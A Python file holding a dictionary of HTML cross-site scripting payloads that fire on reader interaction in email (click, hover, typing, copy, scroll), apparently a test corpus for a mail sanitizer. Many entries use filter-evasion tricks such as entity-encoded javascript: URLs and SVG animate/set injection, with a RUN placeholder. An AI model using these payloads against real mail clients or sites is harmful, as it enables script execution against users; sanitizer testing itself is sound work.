"""Scripts that wait for the reader's hand: a dict of what the hand does to the mail's first words."""

AWAITED = {
    "click": r"""
<p onclick=RUN>wide text to press</p>
<p/onclick=RUN>wide text to press</p>
<p title='a"b' onclick='RUN'>wide text to press</p>
<p onclick&#61;x=1 onclick=RUN>wide text to press</p>
<p onmousedown=RUN>wide text to press</p>
<p onmouseup=RUN>wide text to press</p>
<p onpointerdown=RUN>wide text to press</p>
<p onpointerup=RUN>wide text to press</p>
<p ongotpointercapture=RUN onpointerdown=this.setPointerCapture(event.pointerId)>wide text to press</p>
<table onclick=RUN><tr><td>wide text to press</table>
<font onclick=RUN>wide text to press</font>
<center onclick=RUN>wide text to press</center>
<blockquote style="margin:0" onclick=RUN>wide text to press</blockquote>
<x-mail onclick=RUN>wide text to press</x-mail>
<label><p>wide text to press</p><input type=checkbox onchange=RUN></label>
<label><p>wide text to press</p><input type=checkbox onclick=RUN></label>
<label><p>wide text to press</p><input type=radio oninput=RUN></label>
<label><p>wide text to press</p><input onfocus=RUN></label>
<details ontoggle=RUN><summary>wide text to press</summary>x</details>
<button popovertarget=pop>wide text to press</button><p popover id=pop onbeforetoggle=RUN>x</p>
<button popovertarget=pop>wide text to press</button><p popover id=pop ontoggle=RUN>x</p>
<button commandfor=pop command=--x>wide text to press</button><p id=pop oncommand=RUN>x</p>
<button commandfor=pop command=show-modal>wide text to press</button><dialog id=pop onbeforetoggle=RUN>x</dialog>
<form onsubmit=RUN;return(!1)><button>wide text to press</button></form>
<form onreset=RUN><button type=reset>wide text to press</button></form>
<form><button>wide text to press</button><input required oninvalid=RUN></form>
<form onformdata=RUN action=#x><button>wide text to press</button></form>
<form method=dialog onsubmit=RUN><button>wide text to press</button></form>
<form action="javascript:RUN"><button>wide text to press</button></form>
<form action="java[LF]script:RUN"><input type=submit value="wide text to press"></form>
<form><button formaction="javascript:RUN">wide text to press</button></form>
<form><input type=submit formaction="&#106;avascript:RUN" value="wide text to press"></form>
<form id=f action="javascript:RUN"></form><button form=f>wide text to press</button>
<button form=f formaction="JAVASCRIPT:RUN">wide text to press</button><form id=f></form>
<a href="javascript:RUN">wide text to press</a>
<a href="JaVaScRiPt:RUN">wide text to press</a>
<a href=" javascript:RUN">wide text to press</a>
<a href="&#1;javascript:RUN">wide text to press</a>
<a href="&#31;&#32;javascript:RUN">wide text to press</a>
<a href="java&#9;script:RUN">wide text to press</a>
<a href="java&#10;script:RUN">wide text to press</a>
<a href="java&#13;script:RUN">wide text to press</a>
<a href="java&Tab;script:RUN">wide text to press</a>
<a href="j&NewLine;a&NewLine;v&NewLine;ascript:RUN">wide text to press</a>
<a href="javascript[TAB]:RUN">wide text to press</a>
<a href="javascript&colon;RUN">wide text to press</a>
<a href="javascript&#58;RUN">wide text to press</a>
<a href="javascript&#x3a;RUN">wide text to press</a>
<a href="javascript&#0000058RUN">wide text to press</a>
<a href="&#106;&#97;&#118;&#97;script:RUN">wide text to press</a>
<a href="&#x6A;&#X41;vascript:RUN">wide text to press</a>
<a href="javascript://x.example/%0aRUN">wide text to press</a>
<a href="javascript:%74op.postMessage(NUMBER,`*`)">wide text to press</a>
<a href="javascript:/*&#x2f;*/RUN">wide text to press</a>
<a href="javascript:void(RUN)">wide text to press</a>
<a href=javascript:RUN href=https://x.example>wide text to press</a>
<a href=javascript:RUN target=_self>wide text to press</a>
<a href="javascript:'<script>RUN</script>'">wide text to press</a>
<a href="#x" onclick=RUN>wide text to press</a>
<a href="https://x.example" onclick="RUN;return false">wide text to press</a>
<a onclick=RUN>wide text to press</a>
<a href="javascript:RUN"><b><i>wide text to press</i></b></a>
<a href="javascript:RUN"><table><tr><td>wide text to press</table></a>
<a href="javascript:RUN"><img alt="wide text to press" src=x:></a>
<p><label for=go>wide text to press</label><a href="javascript:RUN"><button id=go></button></a>
<base href="javascript:x"><a href="javascript:RUN">wide text to press</a>
<svg><a href="javascript:RUN"><text x=5 y=20>wide text to press</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text x=5 y=20>wide text to press</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN" /><text x=5 y=20>wide text to press</text></a></svg>
<svg><a><set attributeName=href to="javascript:RUN" /><text x=5 y=20>wide text to press</text></a></svg>
<svg><a href=#><set attributeName=href to="javascript:RUN"/><text x=5 y=20>wide text to press</text></a></svg>
<svg><text x=5 y=20 onclick=RUN>wide text to press</text></svg>
<svg><rect width=200 height=50 onclick=RUN /></svg>
<svg><rect id=r width=200 height=50 /><animate href=#r attributeName=x dur=1ms begin=r.click onbegin=RUN /></svg>
<svg><rect id=r width=200 height=50 /><set href=#r attributeName=x to=1 begin=r.mousedown onbegin=RUN /></svg>
<math><mi onclick=RUN>wide text to press</mi></math>
<div style="position:fixed;inset:0" onclick=RUN></div>
<a style="position:fixed;inset:0" href="javascript:RUN">wide text to press</a>
<map name=m><area shape=default href="javascript:RUN"></map><img usemap=#m width=200 height=50 src="PICTURE">
<div><template shadowrootmode=open><p onclick=RUN>wide text to press</p></template></div>
<iframe srcdoc="<p onclick=RUN>wide text to press"></iframe>
""",
    "double": r"""
<p ondblclick=RUN>wide text to press</p>
<p onselectstart=RUN>wide text to press</p>
<body onselectionchange=RUN><p>wide text to press</p>
""",
    "right": r"""
<p oncontextmenu=RUN;return(!1)>wide text to press</p>
<p onauxclick=RUN>wide text to press</p>
""",
    "hover": r"""
<p onmouseover=RUN>wide text to press</p>
<p onmouseenter=RUN>wide text to press</p>
<p onmousemove=RUN>wide text to press</p>
<p onmouseout=RUN>wide text to press</p>
<p onmouseleave=RUN>wide text to press</p>
<p onpointerover=RUN>wide text to press</p>
<p onpointerenter=RUN>wide text to press</p>
<p onpointermove=RUN>wide text to press</p>
<p onpointerout=RUN>wide text to press</p>
<p onpointerleave=RUN>wide text to press</p>
<p onpointerrawupdate=RUN>wide text to press</p>
<svg><rect id=r width=200 height=50 /><set href=#r attributeName=x to=1 begin=r.mouseover onbegin=RUN /></svg>
<svg><set attributeName=onmouseover to=x /><rect width=200 height=50 onmouseover=RUN /></svg>
""",
    "wheel": r"""
<p onwheel=RUN>wide text to press</p>
<p onmousewheel=RUN>wide text to press</p>
<body onscroll=RUN><p style="height:999px">wide text to press</p>
<div style="overflow:auto;height:40px" onscroll=RUN><p style="height:999px">wide text to press</p></div>
""",
    "type": r"""
<input autofocus value="wide text to press" onkeydown=RUN>
<input autofocus value="wide text to press" onkeypress=RUN>
<input autofocus value="wide text to press" onkeyup=RUN>
<input autofocus value="wide text to press" oninput=RUN>
<input autofocus value="wide text to press" onbeforeinput=RUN>
<textarea autofocus oninput=RUN>wide text to press</textarea>
<p contenteditable oninput=RUN>wide text to press</p>
<p contenteditable onbeforeinput=RUN>wide text to press</p>
<p tabindex=0 onkeydown=RUN>wide text to press</p>
<body onkeydown=RUN><p>wide text to press</p>
""",
    "copy": r"""
<p oncopy=RUN>wide text to press</p>
<p onbeforecopy=RUN>wide text to press</p>
<body oncopy=RUN><p>wide text to press</p>
<p contenteditable oncut=RUN>wide text to press</p>
<p contenteditable onpaste=RUN>wide text to press</p>
<input value="wide text to press" onselect=RUN>
<input value="wide text to press" onpaste=RUN>
""",
}
